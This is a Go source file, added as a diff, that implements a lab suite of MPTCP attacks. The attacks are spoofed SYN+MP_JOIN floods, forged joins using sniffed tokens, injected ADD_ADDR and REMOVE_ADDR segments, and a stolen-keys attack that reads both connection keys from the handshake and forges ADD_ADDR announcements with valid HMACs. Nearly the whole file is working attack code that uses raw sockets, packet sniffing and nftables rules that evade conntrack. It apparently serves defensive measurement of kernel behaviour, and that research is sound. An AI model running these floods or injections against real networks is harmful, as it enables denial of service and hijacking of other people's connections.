@@ -1,0 +1,782 @@
+// Package attack is the lab's MPTCP attack suite (issue 19): raw packets
+// sent from an attacker node at a server and a client that keep serving a
+// genuine transfer, and the kernel's MPTCP counters that tell what the
+// kernel did with them. Each Kind is one attack of RFC 8684 sec. 5 /
+// RFC 7430 that the lab can stage:
+//
+//   - join-flood: SYN+MP_JOIN at the server's port with random tokens and
+//     spoofed random sources (an off-path attacker guessing tokens; the
+//     MP_JOIN denial of service).
+//   - join-hmac: an on-path attacker (a router or relay on a detour path)
+//     learns the connection's token from a genuine MP_JOIN SYN passing it
+//     and opens its own joins with that token, answering the server's
+//     SYN/ACK with a third ACK whose HMAC it cannot know.
+//   - add-addr: the on-path attacker injects, into a subflow it sees, ACKs
+//     carrying ADD_ADDR that announce its own address with a wrong HMAC
+//     (the ADD_ADDR hijack). The kernel ignores those without counting
+//     them; every tenth injection is an ADD_ADDR echo (no HMAC), which it
+//     does count (EchoAdd): the control that the injections are processed.
+//   - remove-addr: the same with REMOVE_ADDR for address id 0 (the
+//     server's initial address, the remote id of every subflow toward it);
+//     REMOVE_ADDR carries no HMAC in RFC 8684.
+//   - stolen-keys: an eavesdropper on the initial handshake (RFC 8684 sec.
+//     5's residual threat) reads both keys from the client's MP_CAPABLE
+//     third ACK and injects ADD_ADDRs announcing its own address with the
+//     correct HMAC: what the keys in clear allow.
+//   - none: nothing is sent (the baseline; the genuine-connection prober
+//     runs in every kind).
+//
+// Every kind also runs a prober in the client node: short genuine MPTCP
+// connections to the server at a fixed rate (to a listener of its own on
+// the next port, which the join flood hits too), counted as established,
+// MPTCP or failed, the "genuine connection success rate".
+//
+// Packets are built with internal/mptcpwire and sent through raw sockets
+// opened in the attacker node; on-path kinds read the traffic through an
+// AF_PACKET socket there. Lab only: nothing here is part of the product.
+package attack
+
+import (
+	"bufio"
+	"context"
+	"crypto/hmac"
+	"crypto/rand"
+	"crypto/sha256"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"net"
+	"net/netip"
+	"os"
+	"strconv"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"github.com/google/nftables"
+	"github.com/google/nftables/expr"
+	"golang.org/x/net/ipv4"
+	"golang.org/x/sys/unix"
+
+	"github.com/mpdetour/mpdetour/internal/mptcpwire"
+)
+
+// Kinds.
+const (
+	None       = "none"
+	JoinFlood  = "join-flood"
+	JoinHMAC   = "join-hmac"
+	AddAddr    = "add-addr"
+	RemoveAddr = "remove-addr"
+	StolenKeys = "stolen-keys"
+)
+
+// Kinds lists every kind.
+func Kinds() []string { return []string{None, JoinFlood, JoinHMAC, AddAddr, RemoveAddr, StolenKeys} }
+
+// Lab is what an attack needs of the lab.
+type Lab interface {
+	// Do runs fn inside node's network namespace (sockets opened there
+	// belong to it).
+	Do(node string, fn func() error) error
+	Addr(node string) netip.Addr
+}
+
+// Config is one attack during one trial.
+type Config struct {
+	Kind     string
+	Attacker string         // attacker node
+	Client   string         // client node (prober, client-side counters)
+	Server   string         // server node (server-side counters)
+	Target   netip.AddrPort // the server's listening address
+	// Rate is the attack's packets per second (floods) or injections per
+	// second (add-addr, remove-addr).
+	Rate int
+	// ProbeRate is the prober's genuine connections per second (0: none).
+	// They go to ProbePort on the target's address (default its port + 1),
+	// where Start runs an MPTCP listener in the server node that accepts
+	// and closes: a port of its own, so that an agent's grants for the
+	// genuine transfer's server:port are not churned by the probes (grants
+	// are cached per server address and port). Floods go to both ports.
+	ProbeRate int
+	ProbePort uint16
+}
+
+// counters are the MPTcpExt fields reported (delta over the trial).
+var serverCounters = []string{"MPJoinSynRx", "MPJoinNoTokenFound", "MPJoinAckRx", "MPJoinAckHMacFailure", "MPJoinRejected", "MPCapableSYNRX"}
+var clientCounters = []string{"AddAddr", "AddAddrDrop", "EchoAdd", "EchoAddTx", "RmAddr", "RmAddrDrop", "RmSubflow", "MPJoinSynTx"}
+
+// Run is a started attack.
+type Run struct {
+	cfg    Config
+	lab    Lab
+	cancel context.CancelFunc
+	wg     sync.WaitGroup
+	before map[string]uint64
+
+	sent, injected, sniffed, tokens, synacks atomic.Uint64
+	controls                                 atomic.Uint64
+	probes, probeOK, probeMPTCP              atomic.Uint64
+	errMu                                    sync.Mutex
+	err                                      error
+	cleanup                                  []func()
+	started                                  time.Time
+}
+
+// Start begins the attack and the prober; Stop ends them.
+func Start(ctx context.Context, l Lab, cfg Config) (*Run, error) {
+	known := false
+	for _, k := range Kinds() {
+		known = known || k == cfg.Kind
+	}
+	if !known {
+		return nil, fmt.Errorf("attack: unknown kind %q (known: %s)", cfg.Kind, strings.Join(Kinds(), ", "))
+	}
+	if cfg.Rate <= 0 {
+		cfg.Rate = 1000
+	}
+	if cfg.ProbePort == 0 {
+		cfg.ProbePort = cfg.Target.Port() + 1
+	}
+	r := &Run{cfg: cfg, lab: l}
+	var err error
+	if r.before, err = r.counters(); err != nil {
+		return nil, err
+	}
+	if cfg.ProbeRate > 0 {
+		if err := r.probeListener(); err != nil {
+			r.runCleanup()
+			return nil, err
+		}
+	}
+	ctx, r.cancel = context.WithCancel(ctx)
+	r.started = time.Now()
+	if err := r.startAttack(ctx); err != nil {
+		r.cancel()
+		r.runCleanup()
+		return nil, err
+	}
+	if cfg.ProbeRate > 0 {
+		r.wg.Add(1)
+		go r.prober(ctx)
+	}
+	return r, nil
+}
+
+func (r *Run) fail(err error) {
+	r.errMu.Lock()
+	if r.err == nil {
+		r.err = err
+	}
+	r.errMu.Unlock()
+}
+
+func (r *Run) runCleanup() {
+	for i := len(r.cleanup) - 1; i >= 0; i-- {
+		r.cleanup[i]()
+	}
+	r.cleanup = nil
+}
+
+// Stop ends the attack and returns what it did and what the kernels
+// counted meanwhile: attack.* (packets sent, injections, tokens learnt),
+// probe.* (genuine connections), server.<MIB> and client.<MIB> deltas.
+func (r *Run) Stop() (map[string]float64, error) {
+	r.cancel()
+	r.runCleanup()
+	r.wg.Wait()
+	after, err := r.counters()
+	if err != nil {
+		return nil, err
+	}
+	m := map[string]float64{
+		"attack.sent": float64(r.sent.Load()), "attack.injected": float64(r.injected.Load()),
+		"attack.sniffed": float64(r.sniffed.Load()), "attack.tokens": float64(r.tokens.Load()),
+		"attack.synacks": float64(r.synacks.Load()), "attack.controls": float64(r.controls.Load()),
+		"attack.seconds": time.Since(r.started).Seconds(),
+		"probe.attempts": float64(r.probes.Load()), "probe.established": float64(r.probeOK.Load()),
+		"probe.mptcp": float64(r.probeMPTCP.Load()),
+	}
+	for k, v := range after {
+		m[k] = float64(v - r.before[k])
+	}
+	r.errMu.Lock()
+	defer r.errMu.Unlock()
+	return m, r.err
+}
+
+// counters reads the MPTcpExt MIB of the server and client nodes.
+func (r *Run) counters() (map[string]uint64, error) {
+	out := map[string]uint64{}
+	for _, side := range []struct {
+		node, prefix string
+		keys         []string
+	}{{r.cfg.Server, "server.", serverCounters}, {r.cfg.Client, "client.", clientCounters}} {
+		var mib map[string]uint64
+		err := r.lab.Do(side.node, func() error {
+			var err error
+			mib, err = readMPTcpExt("/proc/thread-self/net/netstat")
+			return err
+		})
+		if err != nil {
+			return nil, fmt.Errorf("attack: MPTCP counters of %s: %w", side.node, err)
+		}
+		for _, k := range side.keys {
+			out[side.prefix+k] = mib[k]
+		}
+	}
+	return out, nil
+}
+
+// readMPTcpExt parses the MPTcpExt lines of a netstat file.
+func readMPTcpExt(path string) (map[string]uint64, error) {
+	f, err := os.Open(path)
+	if err != nil {
+		return nil, err
+	}
+	defer f.Close()
+	sc := bufio.NewScanner(f)
+	sc.Buffer(make([]byte, 64<<10), 1<<20)
+	var names []string
+	for sc.Scan() {
+		fs := strings.Fields(sc.Text())
+		if len(fs) == 0 || fs[0] != "MPTcpExt:" {
+			continue
+		}
+		if names == nil {
+			names = fs[1:]
+			continue
+		}
+		m := map[string]uint64{}
+		for i, v := range fs[1:] {
+			if i < len(names) {
+				m[names[i]], _ = strconv.ParseUint(v, 10, 64)
+			}
+		}
+		return m, nil
+	}
+	if err := sc.Err(); err != nil {
+		return nil, err
+	}
+	return nil, errors.New("no MPTcpExt counters (kernel without MPTCP?)")
+}
+
+func random32() uint32 {
+	var b [4]byte
+	_, _ = rand.Read(b[:])
+	return binary.BigEndian.Uint32(b[:])
+}
+
+func random64() uint64 {
+	var b [8]byte
+	_, _ = rand.Read(b[:])
+	return binary.BigEndian.Uint64(b[:])
+}
+
+// sender is a raw IP_HDRINCL socket in the attacker node.
+type sender struct{ c *ipv4.RawConn }
+
+func (s sender) send(seg *mptcpwire.Segment) error {
+	b, err := seg.Marshal()
+	if err != nil {
+		return err
+	}
+	h, err := ipv4.ParseHeader(b[:20])
+	if err != nil {
+		return err
+	}
+	return s.c.WriteTo(h, b[20:], nil)
+}
+
+func (r *Run) openSender() (sender, error) {
+	var s sender
+	err := r.lab.Do(r.cfg.Attacker, func() error {
+		pc, err := net.ListenPacket("ip4:tcp", "0.0.0.0")
+		if err != nil {
+			return err
+		}
+		// Marked for onPathRules (harmless where there are none).
+		if rc, err := pc.(*net.IPConn).SyscallConn(); err == nil {
+			var serr error
+			_ = rc.Control(func(fd uintptr) { serr = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_MARK, attackMark) })
+			if serr != nil {
+				pc.Close()
+				return fmt.Errorf("SO_MARK: %w", serr)
+			}
+		}
+		s.c, err = ipv4.NewRawConn(pc)
+		if err != nil {
+			pc.Close()
+		}
+		return err
+	})
+	if err != nil {
+		return s, fmt.Errorf("attack: raw socket in %s: %w", r.cfg.Attacker, err)
+	}
+	r.cleanup = append(r.cleanup, func() { s.c.Close() })
+	return s, nil
+}
+
+// openSniffer is an AF_PACKET socket of the attacker node seeing every IPv4
+// packet on its interfaces (received and sent, so forwarded packets
+// twice: before and after the node's NAT).
+func (r *Run) openSniffer() (*os.File, error) {
+	var f *os.File
+	err := r.lab.Do(r.cfg.Attacker, func() error {
+		// ETH_P_ALL, not ETH_P_IP: only taps of every protocol see the
+		// packets a node sends (forwarded ones after its NAT); frames
+		// that are not IPv4 fail to parse and are skipped.
+		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, int(htons(unix.ETH_P_ALL)))
+		if err != nil {
+			return err
+		}
+		_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_RCVBUF, 4<<20)
+		f = os.NewFile(uintptr(fd), "attack-sniffer")
+		return nil
+	})
+	if err != nil {
+		return nil, fmt.Errorf("attack: packet socket in %s: %w", r.cfg.Attacker, err)
+	}
+	r.cleanup = append(r.cleanup, func() { f.Close() })
+	return f, nil
+}
+
+func htons(v uint16) uint16 { return v<<8 | v>>8 }
+
+// attackMark marks the attacker's own packets (SO_MARK) for its nftables
+// rules.
+const attackMark = 0x4d50
+
+// onPathRules installs the attacker node's nftables table, removed by
+// Stop: its marked packets skip conntrack (a relay's NAT would otherwise
+// treat an injected segment as a new connection clashing with the one it
+// translates and rewrite its port), and with dropRST the node's kernel does
+// not reset the joins the attacker opens from its own address (no socket
+// owns them).
+func (r *Run) onPathRules(dropRST bool) error {
+	return r.lab.Do(r.cfg.Attacker, func() error {
+		c, err := nftables.New()
+		if err != nil {
+			return err
+		}
+		t := c.AddTable(&nftables.Table{Family: nftables.TableFamilyIPv4, Name: "mpdetour_attack"})
+		raw := c.AddChain(&nftables.Chain{Name: "raw", Table: t, Type: nftables.ChainTypeFilter,
+			Hooknum: nftables.ChainHookOutput, Priority: nftables.ChainPriorityRaw})
+		mark := binary.NativeEndian.AppendUint32(nil, attackMark)
+		c.AddRule(&nftables.Rule{Table: t, Chain: raw, Exprs: []expr.Any{
+			&expr.Meta{Key: expr.MetaKeyMARK, Register: 1},
+			&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: mark},
+			&expr.Notrack{},
+		}})
+		if dropRST {
+			ch := c.AddChain(&nftables.Chain{Name: "out", Table: t, Type: nftables.ChainTypeFilter,
+				Hooknum: nftables.ChainHookOutput, Priority: nftables.ChainPriorityFilter})
+			c.AddRule(&nftables.Rule{Table: t, Chain: ch, Exprs: []expr.Any{
+				&expr.Meta{Key: expr.MetaKeyL4PROTO, Register: 1},
+				&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: []byte{unix.IPPROTO_TCP}},
+				&expr.Payload{DestRegister: 1, Base: expr.PayloadBaseTransportHeader, Offset: 13, Len: 1},
+				&expr.Bitwise{SourceRegister: 1, DestRegister: 1, Len: 1, Mask: []byte{mptcpwire.RST}, Xor: []byte{0}},
+				&expr.Cmp{Op: expr.CmpOpNeq, Register: 1, Data: []byte{0}},
+				&expr.Verdict{Kind: expr.VerdictDrop},
+			}})
+		}
+		if err := c.Flush(); err != nil {
+			return fmt.Errorf("nftables rules: %w", err)
+		}
+		node := r.cfg.Attacker
+		r.cleanup = append(r.cleanup, func() {
+			_ = r.lab.Do(node, func() error {
+				c, err := nftables.New()
+				if err != nil {
+					return err
+				}
+				c.DelTable(t)
+				return c.Flush()
+			})
+		})
+		return nil
+	})
+}
+
+func (r *Run) startAttack(ctx context.Context) error {
+	switch r.cfg.Kind {
+	case None:
+		return nil
+	case JoinFlood:
+		s, err := r.openSender()
+		if err != nil {
+			return err
+		}
+		r.wg.Add(1)
+		go r.paced(ctx, func() error {
+			src := netip.AddrFrom4([4]byte{198, 18, byte(random32()), byte(1 + random32()%254)})
+			port := r.cfg.Target.Port()
+			if r.cfg.ProbeRate > 0 && random32()%2 == 0 {
+				port = r.cfg.ProbePort // the prober's listener too
+			}
+			return s.send(&mptcpwire.Segment{
+				Src: src, Dst: r.cfg.Target.Addr(), ID: uint16(random32()),
+				SrcPort: uint16(1024 + random32()%60000), DstPort: port, Seq: random32(),
+				Flags: mptcpwire.SYN, Window: 64240,
+				Options: []mptcpwire.Option{{Kind: mptcpwire.OptMSS, Data: []byte{0x05, 0xb4}}, mptcpwire.JoinSYN(1, false, random32(), random32())},
+			})
+		})
+		return nil
+	case JoinHMAC:
+		s, err := r.openSender()
+		if err != nil {
+			return err
+		}
+		sn, err := r.openSniffer()
+		if err != nil {
+			return err
+		}
+		if err := r.onPathRules(true); err != nil {
+			return fmt.Errorf("attack: %w", err)
+		}
+		own := r.lab.Addr(r.cfg.Attacker)
+		var token atomic.Uint32
+		var have atomic.Bool
+		r.wg.Add(1)
+		go r.sniff(sn, func(seg *mptcpwire.Segment) {
+			switch {
+			case seg.Flags == mptcpwire.SYN && seg.Dst == r.cfg.Target.Addr() && seg.DstPort == r.cfg.Target.Port() && seg.Src != own:
+				// A genuine join toward the server: its token.
+				if o, ok := mptcpwire.Find(seg.Options, mptcpwire.MPJoin); ok {
+					if j, err := mptcpwire.ParseJoin(o); err == nil && j.Stage == "SYN" {
+						if !have.Load() || token.Load() != j.Token {
+							r.tokens.Add(1)
+						}
+						token.Store(j.Token)
+						have.Store(true)
+					}
+				}
+			case seg.Flags == mptcpwire.SYN|mptcpwire.ACK && seg.Dst == own && seg.Src == r.cfg.Target.Addr():
+				// The server's answer to our join: the third ACK with a
+				// made-up HMAC.
+				if _, ok := mptcpwire.Find(seg.Options, mptcpwire.MPJoin); !ok {
+					return
+				}
+				r.synacks.Add(1)
+				var mac [20]byte
+				binary.BigEndian.PutUint64(mac[:], random64())
+				if err := s.send(&mptcpwire.Segment{
+					Src: own, Dst: seg.Src, SrcPort: seg.DstPort, DstPort: seg.SrcPort,
+					Seq: seg.Ack, Ack: seg.Seq + 1, Flags: mptcpwire.ACK, Window: 502,
+					Options: []mptcpwire.Option{mptcpwire.JoinACK(mac)},
+				}); err == nil {
+					r.injected.Add(1)
+				}
+			}
+		})
+		r.wg.Add(1)
+		go r.paced(ctx, func() error {
+			if !have.Load() {
+				return errNothing
+			}
+			return s.send(&mptcpwire.Segment{
+				Src: own, Dst: r.cfg.Target.Addr(), ID: uint16(random32()),
+				SrcPort: uint16(20000 + random32()%40000), DstPort: r.cfg.Target.Port(), Seq: random32(),
+				Flags: mptcpwire.SYN, Window: 64240,
+				Options: []mptcpwire.Option{{Kind: mptcpwire.OptMSS, Data: []byte{0x05, 0xb4}}, mptcpwire.JoinSYN(7, false, token.Load(), random32())},
+			})
+		})
+		return nil
+	case StolenKeys:
+		return r.startStolenKeys(ctx)
+	case AddAddr, RemoveAddr:
+		s, err := r.openSender()
+		if err != nil {
+			return err
+		}
+		if err := r.onPathRules(false); err != nil {
+			return fmt.Errorf("attack: %w", err)
+		}
+		sn, err := r.openSniffer()
+		if err != nil {
+			return err
+		}
+		client, own := r.lab.Addr(r.cfg.Client), r.lab.Addr(r.cfg.Attacker)
+		var mu sync.Mutex
+		var last *mptcpwire.Segment // the newest segment toward the client
+		r.wg.Add(1)
+		go r.sniff(sn, func(seg *mptcpwire.Segment) {
+			if seg.Dst != client || seg.Flags&mptcpwire.ACK == 0 || seg.Flags&(mptcpwire.SYN|mptcpwire.RST|mptcpwire.FIN) != 0 {
+				return
+			}
+			mu.Lock()
+			last = seg
+			mu.Unlock()
+		})
+		r.wg.Add(1)
+		go r.paced(ctx, func() error {
+			mu.Lock()
+			seg := last
+			mu.Unlock()
+			if seg == nil {
+				return errNothing
+			}
+			// An ACK of the same connection, in window: the sniffed
+			// segment's sequence number past its data, its ACK and
+			// timestamps, and the forged option.
+			opt := mptcpwire.RemoveAddrOpt(0)
+			if r.cfg.Kind == AddAddr {
+				// Every tenth is an ADD_ADDR echo, which carries no HMAC:
+				// the kernel counts it (EchoAdd), proving that the forged
+				// segments reach its MPTCP option processing; the others
+				// announce our address with a made-up HMAC.
+				if r.sent.Load()%10 == 9 {
+					opt = mptcpwire.AddAddrOpt(42, own, 0, true, 0)
+					r.controls.Add(1)
+				} else {
+					opt = mptcpwire.AddAddrOpt(42, own, 0, false, random64())
+				}
+			}
+			opts := []mptcpwire.Option{opt}
+			if ts, ok := findKind(seg.Options, mptcpwire.OptTimestamp); ok {
+				opts = append([]mptcpwire.Option{{Kind: mptcpwire.OptNOP}, {Kind: mptcpwire.OptNOP}, ts}, opts...)
+			}
+			err := s.send(&mptcpwire.Segment{
+				Src: seg.Src, Dst: seg.Dst, ID: uint16(random32()), SrcPort: seg.SrcPort, DstPort: seg.DstPort,
+				Seq: seg.Seq + uint32(len(seg.Payload)), Ack: seg.Ack, Flags: mptcpwire.ACK, Window: seg.Window, Options: opts,
+			})
+			if err == nil {
+				r.injected.Add(1)
+			}
+			return err
+		})
+		return nil
+	}
+	return fmt.Errorf("attack: kind %q not implemented", r.cfg.Kind)
+}
+
+// errNothing: an on-path attack has nothing to send yet.
+var errNothing = errors.New("nothing to send yet")
+
+func findKind(opts []mptcpwire.Option, kind uint8) (mptcpwire.Option, bool) {
+	for _, o := range opts {
+		if o.Kind == kind {
+			return o, true
+		}
+	}
+	return mptcpwire.Option{}, false
+}
+
+// paced calls send Rate times per second (in batches every 10 ms) until
+// ctx ends; send returns errNothing when it had nothing to send yet (an
+// on-path attack before it saw what it needs). Send errors other than a
+// full buffer end the attack.
+func (r *Run) paced(ctx context.Context, send func() error) {
+	defer r.wg.Done()
+	tick := time.NewTicker(10 * time.Millisecond)
+	defer tick.Stop()
+	start := time.Now()
+	var done uint64
+	for {
+		select {
+		case <-ctx.Done():
+			return
+		case <-tick.C:
+		}
+		due := uint64(time.Since(start).Seconds() * float64(r.cfg.Rate))
+		for ; done < due; done++ {
+			if err := send(); err != nil {
+				if errors.Is(err, errNothing) || errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EAGAIN) {
+					continue
+				}
+				if ctx.Err() == nil {
+					r.fail(fmt.Errorf("attack %s: send: %w", r.cfg.Kind, err))
+				}
+				return
+			}
+			r.sent.Add(1)
+		}
+	}
+}
+
+// sniff parses every TCP packet the sniffer sees and hands it to fn until
+// the socket is closed.
+func (r *Run) sniff(f *os.File, fn func(*mptcpwire.Segment)) {
+	defer r.wg.Done()
+	buf := make([]byte, 65536)
+	for {
+		n, err := f.Read(buf)
+		if err != nil {
+			return
+		}
+		seg, _, err := mptcpwire.ParseIPv4(buf[:n], false)
+		if err != nil {
+			continue
+		}
+		r.sniffed.Add(1)
+		fn(seg)
+	}
+}
+
+// probeTarget is where the prober connects.
+func (r *Run) probeTarget() netip.AddrPort {
+	return netip.AddrPortFrom(r.cfg.Target.Addr(), r.cfg.ProbePort)
+}
+
+// probeListener accepts the prober's connections in the server node and
+// closes them.
+func (r *Run) probeListener() error {
+	var ln net.Listener
+	err := r.lab.Do(r.cfg.Server, func() error {
+		var lc net.ListenConfig
+		lc.SetMultipathTCP(true)
+		var err error
+		ln, err = lc.Listen(context.Background(), "tcp4", r.probeTarget().String())
+		return err
+	})
+	if err != nil {
+		return fmt.Errorf("attack: prober's listener in %s: %w", r.cfg.Server, err)
+	}
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			c.Close()
+		}
+	}()
+	r.cleanup = append(r.cleanup, func() { ln.Close(); <-done })
+	return nil
+}
+
+// prober opens short genuine MPTCP connections from the client to the
+// target at ProbeRate per second, each given 2 s to establish.
+func (r *Run) prober(ctx context.Context) {
+	defer r.wg.Done()
+	every := time.Second / time.Duration(r.cfg.ProbeRate)
+	tick := time.NewTicker(every)
+	defer tick.Stop()
+	var wg sync.WaitGroup
+	defer wg.Wait()
+	for {
+		select {
+		case <-ctx.Done():
+			return
+		case <-tick.C:
+		}
+		r.probes.Add(1)
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			var c net.Conn
+			err := r.lab.Do(r.cfg.Client, func() error {
+				d := net.Dialer{Timeout: 2 * time.Second}
+				d.SetMultipathTCP(true)
+				var err error
+				c, err = d.Dial("tcp4", r.probeTarget().String())
+				return err
+			})
+			if err != nil {
+				return
+			}
+			r.probeOK.Add(1)
+			if mp, err := c.(*net.TCPConn).MultipathTCP(); err == nil && mp {
+				r.probeMPTCP.Add(1)
+			}
+			c.Close()
+		}()
+	}
+}
+
+// startStolenKeys: read the keys of every MPTCP connection to the target
+// from its MP_CAPABLE third ACK (client -> server: the client's key, then
+// the server's), then inject into the connection's newest server -> client
+// segment an ADD_ADDR for our own address whose HMAC is right: HMAC-SHA256
+// keyed by the server's key then the client's over id || address || port
+// (RFC 8684 sec. 3.4.1), the rightmost 64 bits.
+func (r *Run) startStolenKeys(ctx context.Context) error {
+	s, err := r.openSender()
+	if err != nil {
+		return err
+	}
+	sn, err := r.openSniffer()
+	if err != nil {
+		return err
+	}
+	if err := r.onPathRules(false); err != nil {
+		return fmt.Errorf("attack: %w", err)
+	}
+	own := r.lab.Addr(r.cfg.Attacker)
+	type conn struct {
+		client, server uint64 // keys
+		last           *mptcpwire.Segment
+	}
+	var mu sync.Mutex
+	conns := map[uint16]*conn{} // by the client's port
+	r.wg.Add(1)
+	go r.sniff(sn, func(seg *mptcpwire.Segment) {
+		mu.Lock()
+		defer mu.Unlock()
+		switch {
+		case seg.Dst == r.cfg.Target.Addr() && seg.DstPort == r.cfg.Target.Port():
+			o, ok := mptcpwire.Find(seg.Options, mptcpwire.MPCapable)
+			if !ok {
+				return
+			}
+			if c, err := mptcpwire.ParseCapable(o); err == nil && len(c.Keys) == 2 && conns[seg.SrcPort] == nil {
+				conns[seg.SrcPort] = &conn{client: c.Keys[0], server: c.Keys[1]}
+				r.tokens.Add(1) // key pairs learnt
+			}
+		case seg.Src == r.cfg.Target.Addr() && seg.SrcPort == r.cfg.Target.Port() && seg.Flags&mptcpwire.ACK != 0 &&
+			seg.Flags&(mptcpwire.SYN|mptcpwire.RST|mptcpwire.FIN) == 0:
+			if c := conns[seg.DstPort]; c != nil {
+				c.last = seg
+			}
+		}
+	})
+	r.wg.Add(1)
+	go r.paced(ctx, func() error {
+		mu.Lock()
+		var targets []*mptcpwire.Segment
+		var hmacs []uint64
+		for _, c := range conns {
+			if c.last != nil {
+				targets = append(targets, c.last)
+				hmacs = append(hmacs, AddAddrHMAC(c.server, c.client, 42, own, 0))
+			}
+		}
+		mu.Unlock()
+		if len(targets) == 0 {
+			return errNothing
+		}
+		i := int(random32() % uint32(len(targets)))
+		seg := targets[i]
+		opts := []mptcpwire.Option{mptcpwire.AddAddrOpt(42, own, 0, false, hmacs[i])}
+		if ts, ok := findKind(seg.Options, mptcpwire.OptTimestamp); ok {
+			opts = append([]mptcpwire.Option{{Kind: mptcpwire.OptNOP}, {Kind: mptcpwire.OptNOP}, ts}, opts...)
+		}
+		err := s.send(&mptcpwire.Segment{
+			Src: seg.Src, Dst: seg.Dst, ID: uint16(random32()), SrcPort: seg.SrcPort, DstPort: seg.DstPort,
+			Seq: seg.Seq + uint32(len(seg.Payload)), Ack: seg.Ack, Flags: mptcpwire.ACK, Window: seg.Window, Options: opts,
+		})
+		if err == nil {
+			r.injected.Add(1)
+		}
+		return err
+	})
+	return nil
+}
+
+// AddAddrHMAC is ADD_ADDR's truncated HMAC for an IPv4 address (RFC 8684
+// sec. 3.4.1): HMAC-SHA256 keyed by the announcer's key then the peer's,
+// over address id, address and port; the rightmost 64 bits.
+func AddAddrHMAC(senderKey, peerKey uint64, id uint8, addr netip.Addr, port uint16) uint64 {
+	key := binary.BigEndian.AppendUint64(binary.BigEndian.AppendUint64(nil, senderKey), peerKey)
+	a := addr.As4()
+	// The port is always part of the message, 0 when none (as Linux
+	// computes it, add_addr_generate_hmac).
+	msg := binary.BigEndian.AppendUint16(append([]byte{id}, a[:]...), port)
+	m := hmac.New(sha256.New, key)
+	m.Write(msg)
+	sum := m.Sum(nil)
+	return binary.BigEndian.Uint64(sum[len(sum)-8:])
+}
